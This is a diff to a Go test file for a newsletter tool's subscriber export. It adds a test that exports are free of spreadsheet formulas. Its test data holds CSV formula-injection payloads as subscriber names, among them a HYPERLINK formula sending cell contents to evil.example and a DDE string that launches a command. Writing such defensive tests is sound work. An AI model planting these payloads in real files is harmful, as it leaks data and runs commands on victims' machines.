@@ -1,6 +1,7 @@
 package subscribers_test
 
 import (
+	"encoding/csv"
 	"io"
 	"maps"
 	"strings"
@@ -8,6 +9,7 @@ import (
 	"time"
 
 	"broadsheet/internal/db"
+	"broadsheet/internal/db/dbtest"
 	"broadsheet/subscribers"
 )
 
@@ -241,6 +243,45 @@ func TestExportForOtherTools(t *testing.T) {
 			t.Errorf("got %v", err)
 		}
 	})
+}
+
+// TestExportsHoldNoFormulas: whatever readers call themselves, no cell of any
+// export is a formula, and reading the file back gives what was there.
+func TestExportsHoldNoFormulas(t *testing.T) {
+	names := map[string]string{
+		"=x@example.com": `=HYPERLINK("https://evil.example/?"&A1,"Ann")`, "+x@example.com": "+1+1", "-x@example.com": "-2+3+cmd|' /C calc'!A0",
+		"a@example.com": "@SUM(1)", "b@example.com": "＝1＋1", "c@example.com": "Ann =1+1", "d@example.com": "'=1+1", "e@example.com": "'Ann", "f@example.com": `"=1`,
+	}
+	for _, tool := range append(subscribers.ForeignTools(), "") {
+		t.Run(tool, func(t *testing.T) {
+			k := newDesk(t, dbtest.Open(t, db.SQLite))
+			for address, name := range names {
+				k.must(k.Add(t.Context(), k.catalog, subscribers.Add{Address: address, Name: name, Confirmed: true, Consent: "on paper"}))
+			}
+			var out strings.Builder
+			_, err := k.Export(t.Context(), k.catalog, &out, subscribers.ExportOptions{For: tool})
+			k.must(err)
+			rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+			k.must(err)
+			for _, row := range rows {
+				for _, cell := range row {
+					if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.HasPrefix(cell, "＝") {
+						t.Errorf("a spreadsheet would run %q", cell)
+					}
+				}
+			}
+			if tool != "" {
+				return // its import has other columns than its export
+			}
+			again := newDesk(t, dbtest.Open(t, db.SQLite))
+			again.wantImport(out.String(), confirmed, "+9 ~0 =0 -0")
+			for address, name := range names {
+				if got := again.detail(address).Name; got != name {
+					t.Errorf("%s is called %q after reading back, want %q", address, got, name)
+				}
+			}
+		})
+	}
 }
 
 // TestRampKnowsWhoReads: of readers that another tool had, those whom it saw
